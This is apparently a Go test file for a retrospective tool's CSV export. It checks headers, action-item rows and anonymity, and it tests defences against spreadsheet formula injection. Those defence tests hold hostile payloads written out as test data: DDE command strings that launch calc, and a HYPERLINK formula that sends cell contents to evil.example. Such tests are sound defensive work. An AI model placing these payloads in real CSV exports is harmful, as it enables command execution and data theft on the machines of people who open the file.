package export

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"

	"huddle/session"
)

func mustCSV(tb testing.TB, s *session.State) string {
	tb.Helper()
	var b bytes.Buffer
	if err := CSV(&b, s); err != nil {
		tb.Fatal(err)
	}
	return b.String()
}

// readCSV parses CSV output, checking that every record has the header's
// seven fields.
func readCSV(tb testing.TB, out string) [][]string {
	tb.Helper()
	r := csv.NewReader(strings.NewReader(out))
	r.FieldsPerRecord = len(csvHeader)
	records, err := r.ReadAll()
	if err != nil {
		tb.Fatalf("%v in\n%s", err, out)
	}
	if len(records) == 0 || !slices.Equal(records[0], csvHeader) {
		tb.Fatalf("no header in\n%s", out)
	}
	return records
}

func TestCSVOfAStandupWithoutActionItemsIsTheHeaderAlone(t *testing.T) {
	_, events := standup()
	out := mustCSV(t, session.Fold(sessionID, events))
	golden(t, "csv-standup.csv", []byte(out))
	if out != "id,text,owner,due,status,topic,session\n" {
		t.Errorf("got %q", out)
	}
}

func TestCSVOfARetroOfEveryFormatMatchesTheGoldenFiles(t *testing.T) {
	for _, r := range goldenRetros() {
		t.Run(r.name, func(t *testing.T) {
			s := session.Fold(sessionID, r.events)
			out := mustCSV(t, s)
			golden(t, "csv-retro-"+r.name+".csv", []byte(out))
			records := readCSV(t, out)
			if len(records) != len(s.Actions)+1 {
				t.Fatalf("%d records for %d action items", len(records), len(s.Actions))
			}
		})
	}
}

func TestCSVRowsHoldEachActionItem(t *testing.T) {
	s := session.Fold(sessionID, retroOfFormat(session.MadSadGlad, []string{"Mad", "Sad", "Glad"}, "Book the room"))
	got := readCSV(t, mustCSV(t, s))[1:]
	want := [][]string{
		// Carried: its topic 2 was on the earlier board, so none here.
		{"1", "Retire the old deploy script", "Christian", "2026-11-20", "not-done", "", prevID},
		// From a named topic: its name.
		{"2", "Add a review column to the board", "Julia", "2026-12-01", "open", "Build and reviews", sessionID},
		// From an unnamed topic: its first card's text.
		{"3", "Time-box reviews to a day", "Lukas", "", "open", "Mad: we shipped on time", sessionID},
		// From no topic.
		{"4", "Book the room", "Julia", "2026-11-30", "open", "", sessionID},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

func TestCSVOfAStandupLeavesTheTopicEmpty(t *testing.T) {
	_, events := standup()
	created := *events[0].Payload.(*session.Created)
	created.Actions = []session.Action{{ID: 7, Text: "Ask about the VPN", Owner: lukas, Status: session.ActionOpen, Topic: 2, Session: prevID}}
	events[0].Payload = &created
	got := readCSV(t, mustCSV(t, session.Fold(sessionID, events)))
	want := []string{"7", "Ask about the VPN", "Lukas", "", "open", "", prevID}
	if len(got) != 2 || !slices.Equal(got[1], want) {
		t.Errorf("got %q, want the header and %q", got, want)
	}
}

func TestCSVDefusesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"":                     "",
		"plain":                "plain",
		"=1+2":                 "'=1+2",
		"+1 for pairing":       "'+1 for pairing",
		"-3 points":            "'-3 points",
		"@SUM(A1:A2)":          "'@SUM(A1:A2)",
		"\tindented":           "'\tindented",
		"\rreturn":             "'\rreturn",
		"a = b":                "a = b",
		"'quoted":              "'quoted",
		`=HYPERLINK("x","y")`:  `'=HYPERLINK("x","y")`,
		"2026-11-30":           "2026-11-30",
		"Jörg, \"the\" tester": "Jörg, \"the\" tester",
		// After a separator, where a spreadsheet splitting on it starts
		// a cell.
		`;=HYPERLINK("http://x","y")`: `;'=HYPERLINK("http://x","y")`,
		"a,=cmd|' /C calc'!A0":        "a,'=cmd|' /C calc'!A0",
		"a;+1":                        "a;'+1",
		"a\t-1":                       "a\t'-1",
		"one\n@SUM(A1)":               "one\n'@SUM(A1)",
		"one\r\n=1":                   "one\r\n'=1",
		"a,\t=1":                      "a,'\t'=1",
		"a;\r+1":                      "a;'\r'+1",
		// Spaces and double quotes before a trigger do not hide it.
		"  =1":         "  '=1",
		"a, -1":        "a, '-1",
		`a;"=1"`:       `a;"'=1"`,
		`" @x`:         `" '@x`,
		"a - b, c = d": "a - b, c = d",
		"x,y;z":        "x,y;z",
	} {
		if got := defuse(in); got != want {
			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
		}
	}
	s := session.Fold(sessionID, retroOfFormat(session.Custom, []string{"Keep", "Drop"}, `=cmd|' /C calc'!A0`))
	s.Actions[1].Owner.Name = "@admin"
	s.GroupNames[1] = "-topic, with a comma"
	s.Actions[2].Text = "+line one\nline two"
	got := readCSV(t, mustCSV(t, s))
	for _, c := range []struct{ row, col int }{{4, 1}, {2, 2}, {2, 5}, {3, 1}} {
		if cell := got[c.row][c.col]; !strings.HasPrefix(cell, "'") {
			t.Errorf("row %d, field %s: %q is not defused", c.row, csvHeader[c.col], cell)
		}
	}
	if got[3][1] != "'+line one\nline two" || got[2][5] != "'-topic, with a comma" {
		t.Errorf("the text does not read back: %q", got)
	}
}

// csvTextColumn says which columns hold text, quoted in every row but the
// header.
var csvTextColumn = []bool{false, true, true, false, true, true, true}

func TestCSVQuotesEveryTextCellAndDefusesFormulasInsideIt(t *testing.T) {
	hostile := []string{
		`;=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"a,=cmd|' /C calc'!A0",
		"fine; -2+3",
		"tab\t@SUM(1+1)*cmd|' /C calc'!A0",
		"one\r\n+two\n=three",
		`quote" ,"=1`,
		"plain words",
		"",
	}
	s := session.Fold(sessionID, retroOfFormat(session.Custom, []string{"Keep", "Drop"}, "Book the room"))
	if len(s.Actions) < 4 {
		t.Fatalf("the fixture has %d action items, want 4", len(s.Actions))
	}
	// Every text column of every row gets hostile text: the action, its
	// owner, its topic (row 3's is a group's name) and its session.
	s.GroupNames[s.Actions[1].Topic] = hostile[5]
	for i := range s.Actions {
		s.Actions[i].Text = hostile[i%len(hostile)]
		s.Actions[i].Owner.Name = hostile[(i+1)%len(hostile)]
		s.Actions[i].Session = hostile[(i+4)%len(hostile)]
	}
	out := mustCSV(t, s)

	// Read back with encoding/csv, each text cell is the defused text, and
	// starts at a double quote in the raw bytes.
	lineStart := []int{0, 0} // byte offset of each line, counted from 1
	for i := range len(out) {
		if out[i] == '\n' {
			lineStart = append(lineStart, i+1)
		}
	}
	r := csv.NewReader(strings.NewReader(out))
	r.FieldsPerRecord = len(csvHeader)
	for row := 0; ; row++ {
		rec, err := r.Read()
		if err == io.EOF {
			if row != len(s.Actions)+1 {
				t.Fatalf("%d records for %d action items", row, len(s.Actions))
			}
			break
		}
		if err != nil {
			t.Fatalf("%v in\n%s", err, out)
		}
		if row == 0 {
			continue
		}
		a := s.Actions[row-1]
		want := map[int]string{1: a.Text, 2: a.Owner.Name, 5: session.Summarize(s).Actions[row-1].Topic, 6: a.Session}
		for col, cell := range rec {
			line, column := r.FieldPos(col)
			quoted := out[lineStart[line]+column-1] == '"'
			if quoted != csvTextColumn[col] {
				t.Errorf("row %d, field %s: quoted is %v in the raw bytes", row, csvHeader[col], quoted)
			}
			// encoding/csv reads a CR LF inside quotes as a line feed.
			if w, ok := want[col]; ok && cell != strings.ReplaceAll(defuse(w), "\r\n", "\n") {
				t.Errorf("row %d, field %s reads back as %q, want %q", row, csvHeader[col], cell, w)
			}
			if csvTextColumn[col] {
				checkNoFormulaStart(t, cell)
			}
		}
	}
	// A spreadsheet that splits on another separator, or ignores the
	// quotes, finds no formula either.
	checkNoFormulaStart(t, out)
}

// checkNoFormulaStart checks that neither the text nor any part of it
// after a separator, spaces and double quotes skipped, starts with a
// character that makes a formula.
func checkNoFormulaStart(t *testing.T, text string) {
	t.Helper()
	parts := strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) })
	if text != "" && strings.ContainsRune(",;\t\r\n", rune(text[0])) {
		parts = append(parts, "") // a separator first leaves nothing before it
	}
	for _, p := range parts {
		p = strings.TrimLeft(p, ` "`)
		if p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
			t.Errorf("%q starts a cell with a formula in %q", p, text)
		}
	}
}

func TestCSVOfAnAnonymousRetroNamesOnlyOwners(t *testing.T) {
	s := session.Fold(sessionID, retroAnonymous())
	out := mustCSV(t, s)
	records := readCSV(t, out)
	if len(records) != 3 {
		t.Fatalf("the fixture does not cover what this test is about:\n%s", out)
	}
	people := peopleOf(s)
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if csvHeader[i] == "owner" {
				if !slices.Contains(people, cell) {
					t.Errorf("the owner %q is nobody of the retrospective", cell)
				}
				continue
			}
			for _, who := range people {
				if strings.Contains(cell, who) {
					t.Errorf("the %s field %q names %q", csvHeader[i], cell, who)
				}
			}
		}
	}
	if records[2][5] != "Slow reviews" {
		t.Errorf("the topic of #9 is %q", records[2][5])
	}
	for _, h := range hashesOf(s) {
		if strings.Contains(out, h) || strings.Contains(out, h[:8]) {
			t.Errorf("the CSV shows the hash %s", h)
		}
	}
}
